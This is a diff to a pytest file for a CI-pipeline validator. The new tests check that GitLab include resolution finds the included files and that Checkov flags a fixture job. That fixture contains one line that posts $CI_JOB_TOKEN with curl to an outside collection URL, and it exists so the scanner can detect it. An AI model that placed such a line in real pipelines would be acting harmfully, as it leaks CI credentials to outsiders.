@@ -9,7 +9,8 @@ import pytest
 from click.testing import CliRunner
 
 from generator.cli import cli
-from generator.validators.pipelines import unpinned
+from generator.validators.pipelines import gitlab_files, unpinned
+from tests.conftest import require_tool
 
 SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"
 
@@ -76,3 +77,46 @@ def test_schema_violation_is_reported(tmp_path: Path) -> None:
         "ci-schema",
     )
     assert found["ci-schema"]["status"] == "failed"
+
+
+def test_gitlab_files_follow_the_local_includes_wherever_they_are(tmp_path: Path) -> None:
+    (tmp_path / "ci" / "gitlab").mkdir(parents=True)
+    (tmp_path / "pipelines").mkdir()
+    for name in (
+        "ci/gitlab/checks.yml",
+        "ci/gitlab/deploy.yml",
+        "pipelines/extra.yml",
+        "unused.yml",
+    ):
+        (tmp_path / name).write_text("job:\n  script: [true]\n")
+    (tmp_path / ".gitlab-ci.yml").write_text(
+        "include:\n"
+        "  - local: ci/gitlab/*.yml\n"
+        "  - /pipelines/extra.yml\n"
+        "  - remote: https://example.com/shared.yml\n"
+        "  - project: group/templates\n"
+        "    file: /base.yml\n"
+    )
+    found = [p.relative_to(tmp_path).as_posix() for p in gitlab_files(tmp_path)]
+    assert found == [
+        ".gitlab-ci.yml",
+        "ci/gitlab/checks.yml",
+        "ci/gitlab/deploy.yml",
+        "pipelines/extra.yml",
+    ]
+    (tmp_path / ".gitlab-ci.yml").write_text("include: ci/gitlab/checks.yml\n")
+    assert [p.name for p in gitlab_files(tmp_path)] == [".gitlab-ci.yml", "checks.yml"]
+    assert gitlab_files(tmp_path / "nowhere") == []
+
+
+def test_checkov_scans_the_included_gitlab_files_and_names_them(tmp_path: Path) -> None:
+    require_tool("checkov")
+    (tmp_path / "ci").mkdir()
+    (tmp_path / ".gitlab-ci.yml").write_text("include:\n  - local: ci/jobs.yml\n")
+    (tmp_path / "ci" / "jobs.yml").write_text(
+        'leak:\n  script:\n    - curl -d "$CI_JOB_TOKEN" https://example.com/collect\n'
+    )
+    found = _statuses(tmp_path, "checkov-ci")["checkov-ci"]
+    assert found["status"] == "failed"
+    assert "CKV_GITLABCI_1" in found["details"]
+    assert "(ci/jobs.yml:3-4)" in found["details"]
